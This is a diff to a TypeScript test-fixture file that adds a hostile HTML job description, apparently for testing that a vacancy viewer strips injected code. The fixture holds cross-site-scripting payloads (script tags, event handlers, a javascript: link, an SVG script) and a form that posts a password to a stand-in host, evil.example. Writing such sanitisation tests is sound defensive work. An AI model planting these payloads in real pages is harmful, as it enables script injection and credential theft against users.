@@ -100,6 +100,25 @@ export const defaultUser = (): FakeSiteUser => ({
   ],
 });
 
+/**
+ * A description an employer (or someone who took over their account) could write: every way HTML
+ * can run code, restyle the page or send data elsewhere, around ordinary text and one real link.
+ * The window must show the text and the link, and run or keep none of the rest.
+ */
+export const HOSTILE_DESCRIPTION_HTML = [
+  '<p>Ищем <strong>разработчика</strong> в команду платформы.</p>',
+  '<script>window.__pwned = "script"</script>',
+  '<img src="x" onerror="window.__pwned = \'onerror\'">',
+  '<p onclick="window.__pwned = \'onclick\'" style="position: fixed; inset: 0">Условия: ДМС и гибкий график.</p>',
+  '<a href="javascript:window.__pwned = \'href\'">Ссылка-ловушка</a> ',
+  '<a href="https://hh.ru/employer/7009" onmouseover="window.__pwned = \'hover\'">Страница работодателя</a>',
+  '<iframe src="https://evil.example/frame"></iframe>',
+  '<svg><script>window.__pwned = "svg"</script><circle r="5"></circle></svg>',
+  '<form action="https://evil.example/steal"><input name="password" value="секрет"><button>Войти</button></form>',
+  '<style>body { display: none }</style>',
+  '<ul><li>Python</li><li>Django</li></ul>',
+].join('');
+
 const NAMES = ['Frontend-разработчик (React)', 'Python-разработчик', 'QA-инженер', 'Go-разработчик', 'Аналитик данных', 'DevOps-инженер'];
 const COMPANIES = ['ООО «Ромашка»', 'Яндекс', 'Тинькофф', 'Лаборатория Касперского', 'HeadHunter'];
 export const VACANCY_ID_BASE = 120_000_000;
